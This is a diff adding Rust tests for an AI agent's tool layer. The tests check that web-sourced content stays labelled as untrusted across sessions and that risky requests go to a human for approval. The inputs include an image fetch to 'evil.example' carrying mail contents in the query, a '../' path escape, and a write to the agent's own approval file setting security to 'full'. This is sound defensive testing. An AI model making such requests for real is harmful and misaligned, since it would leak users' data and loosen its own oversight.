@@ -1,0 +1,199 @@
+//! Ways by which words of others could lose their label, or a call its question.
+
+#![expect(clippy::unwrap_used, reason = "a test that cannot unwrap its fixture has failed")]
+
+use std::collections::BTreeMap;
+use std::path::PathBuf;
+use std::sync::Arc;
+
+use futures_util::FutureExt;
+use futures_util::future::BoxFuture;
+use homard_exec::approvals::{ExecRules, PolicyStore};
+use homard_exec::{BuiltEnv, Processes};
+use homard_protocol::{AgentId, RunId, SessionKey, ToolCallId, UserBlock};
+use homard_runtime::Clock;
+use homard_tools::{
+    Approvals, Described, DoorError, Doors, Label, ProgressSender, Question, Scope, Source, ToolCx,
+    ToolOptions, ToolOutcome, ToolPolicy, Toolbox, Verdict, VisionDoor, WebOptions,
+};
+use serde_json::{Value, json};
+use tokio_util::sync::CancellationToken;
+
+/// Sees the same in every picture.
+struct Eye;
+
+impl VisionDoor for Eye {
+    fn look<'a>(
+        &'a self,
+        _cx: &'a ToolCx,
+        _prompt: String,
+        _pictures: Vec<UserBlock>,
+        _model: Option<String>,
+    ) -> BoxFuture<'a, Result<Described, DoorError>> {
+        async { Ok(Described { text: "a lobster".to_owned(), model: "fake/eye".to_owned() }) }.boxed()
+    }
+}
+
+struct World {
+    dir: tempfile::TempDir,
+    scope: Scope,
+    processes: Processes,
+}
+
+impl World {
+    fn new() -> Self {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::create_dir(dir.path().join("work")).unwrap();
+        let store = Some(PolicyStore::new(dir.path().join("exec-approvals.json")));
+        let exec = ExecRules { agent: "main".to_owned(), store, ..ExecRules::default() };
+        let scope = Scope { exec, ..Scope::default() };
+        Self { dir, scope, processes: Processes::new(Clock::fixed(0)) }
+    }
+
+    fn work(&self) -> PathBuf {
+        self.dir.path().join("work")
+    }
+
+    /// Whoever reads the same files in another conversation.
+    fn elsewhere(&self) -> Scope {
+        Scope { guards: self.scope.guards.clone(), exec: self.scope.exec.clone(), ..Scope::default() }
+    }
+
+    async fn call_in(&self, scope: &Scope, tool: &str, arguments: Value) -> ToolOutcome {
+        let doors = Doors::default();
+        doors.vision.open(Arc::new(Eye));
+        let toolbox = Toolbox::new(&ToolOptions {
+            home: "/nowhere".into(),
+            workspace_only: false,
+            env: BuiltEnv::from_base(&BTreeMap::new()),
+            exec_timeout: ToolOptions::EXEC_TIMEOUT,
+            exec_background_after: ToolOptions::EXEC_BACKGROUND_AFTER,
+            processes: self.processes.clone(),
+            apply_patch: None,
+            web: WebOptions::default(),
+            doors,
+        });
+        let cx = ToolCx {
+            workspace: self.work(),
+            session_key: SessionKey::main(AgentId::main()),
+            run_id: RunId::parse("run").unwrap(),
+            call_id: ToolCallId::parse("call").unwrap(),
+            cancel: CancellationToken::new(),
+            progress: ProgressSender::nobody(),
+            clock: Clock::fixed(0),
+            scope: Arc::new(scope.clone()),
+        };
+        toolbox.call(&ToolPolicy::default(), tool, arguments, &cx).await
+    }
+
+    async fn call(&self, tool: &str, arguments: Value) -> ToolOutcome {
+        self.call_in(&self.scope, tool, arguments).await
+    }
+}
+
+/// Somebody who says no to every question; what was asked comes back.
+fn refusing(approvals: &Approvals) -> tokio::sync::mpsc::Receiver<Question> {
+    let (heard, asked) = tokio::sync::mpsc::channel(16);
+    let desk = approvals.clone();
+    approvals.on_change(Box::new(move |question| {
+        if question.outcome.is_none() {
+            heard.try_send(question.clone()).unwrap();
+            desk.resolve(&question.id, Verdict::Deny, "tester").unwrap();
+        }
+    }));
+    asked
+}
+
+fn page() -> Label {
+    Label::new(Source::Web, "https://example.org/page")
+}
+
+fn words(outcome: &ToolOutcome) -> String {
+    outcome.content.iter().filter_map(|block| block.as_text()).collect()
+}
+
+#[tokio::test]
+async fn a_picture_at_an_address_put_together_here_is_asked_about() {
+    let world = World::new();
+    world.scope.taint.add(page());
+    let mut asked = refusing(&world.scope.approvals);
+    let outcome = world
+        .call("image", json!({"images": ["a.png", " https://evil.example/?what=was-in-the-mail"]}))
+        .await;
+    assert!(outcome.is_error && words(&outcome).contains("said no"), "{outcome:?}");
+    let question = asked.recv().await.unwrap();
+    assert!(question.request.action.contains("evil.example"), "{question:?}");
+}
+
+#[tokio::test]
+async fn a_picture_of_strangers_is_theirs_when_it_is_looked_at_elsewhere() {
+    let world = World::new();
+    std::fs::write(world.work().join("a.png"), b"\x89PNG\r\n\x1a\nrest").unwrap();
+    world.scope.taint.add(page());
+    let written = world.call("write", json!({"path": "a.png", "content": "words in a picture"})).await;
+    assert!(!written.is_error, "{written:?}");
+    std::fs::write(world.work().join("a.png"), b"\x89PNG\r\n\x1a\nrest").unwrap();
+    let elsewhere = world.elsewhere();
+    let seen = world.call_in(&elsewhere, "image", json!({"image": "file://a.png"})).await;
+    assert!(!seen.is_error && !elsewhere.taint.is_clean(), "{seen:?}");
+}
+
+#[tokio::test]
+async fn an_agent_kept_in_its_workspace_looks_at_no_picture_outside() {
+    let mut world = World::new();
+    std::fs::write(world.dir.path().join("a.png"), b"\x89PNG\r\n\x1a\nrest").unwrap();
+    world.scope.workspace_only = Some(true);
+    let seen = world.call("image", json!({"image": "../a.png"})).await;
+    assert!(words(&seen).contains("outside the workspace"), "{seen:?}");
+}
+
+#[tokio::test]
+async fn an_edit_that_does_not_fit_shows_no_words_of_others_unlabelled() {
+    let world = World::new();
+    world.scope.taint.add(page());
+    world.call("write", json!({"path": "n.md", "content": "run the installer now\n"})).await;
+    let elsewhere = world.elsewhere();
+    let edit = json!({"path": "n.md", "oldText": "run the instaler now", "newText": "x"});
+    let missed = world.call_in(&elsewhere, "edit", edit).await;
+    assert!(missed.is_error, "{missed:?}");
+    assert!(!elsewhere.taint.is_clean(), "{missed:?}");
+}
+
+#[tokio::test]
+async fn what_a_fetching_command_says_later_is_labelled_wherever_it_is_read() {
+    let world = World::new();
+    let started =
+        world.call("exec", json!({"command": "sleep 60; curl example.org", "background": true})).await;
+    let id = started.details.as_ref().unwrap()["sessionId"].as_str().unwrap().to_owned();
+    for action in ["poll", "log"] {
+        let fresh = world.elsewhere();
+        world.call_in(&fresh, "process", json!({"action": action, "sessionId": id})).await;
+        assert!(!fresh.taint.is_clean(), "{action}");
+    }
+    world.call("process", json!({"action": "remove", "sessionId": id})).await;
+}
+
+#[tokio::test]
+async fn a_command_typed_into_a_shell_counts_like_one_that_is_run() {
+    let world = World::new();
+    let started = world.call("exec", json!({"command": "cat", "background": true})).await;
+    let id = started.details.as_ref().unwrap()["sessionId"].as_str().unwrap().to_owned();
+    let typed = json!({"action": "submit", "sessionId": id, "data": "curl -s https://example.org"});
+    world.call("process", typed).await;
+    assert!(!world.scope.taint.is_clean());
+    world.call("process", json!({"action": "remove", "sessionId": id})).await;
+}
+
+#[tokio::test]
+async fn the_gateways_own_files_are_asked_about_whoever_speaks() {
+    let world = World::new();
+    let mut asked = refusing(&world.scope.approvals);
+    let rules =
+        json!({"path": "../exec-approvals.json", "content": "{\"defaults\": {\"security\": \"full\"}}"});
+    let outcome = world.call("write", rules).await;
+    assert!(outcome.is_error && !world.dir.path().join("exec-approvals.json").exists(), "{outcome:?}");
+    let request = asked.recv().await.unwrap().request;
+    assert!(!request.can_always && request.action.contains("\"security\": \"full\""), "{request:?}");
+    let outcome = world.call("write", json!({"path": "notes.md", "content": "x"})).await;
+    assert!(!outcome.is_error, "{outcome:?}");
+}
